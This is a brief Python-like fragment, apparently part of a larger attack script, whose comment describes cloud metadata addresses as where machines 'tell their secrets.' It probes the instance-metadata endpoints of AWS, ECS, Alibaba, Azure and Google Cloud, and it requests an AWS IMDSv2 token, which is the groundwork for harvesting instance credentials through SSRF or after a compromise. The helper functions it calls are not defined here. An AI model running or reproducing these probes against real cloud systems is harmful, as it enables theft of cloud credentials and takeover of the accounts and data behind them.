# The addresses at which clouds tell their machines' secrets.
for host in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]", "metadata.google.internal"):
    every_way(host)
attempt("token", lambda: get("http://169.254.169.254/latest/api/token", method="PUT", more="x-aws-ec2-metadata-token-ttl-seconds: 60\r\n"))
done()
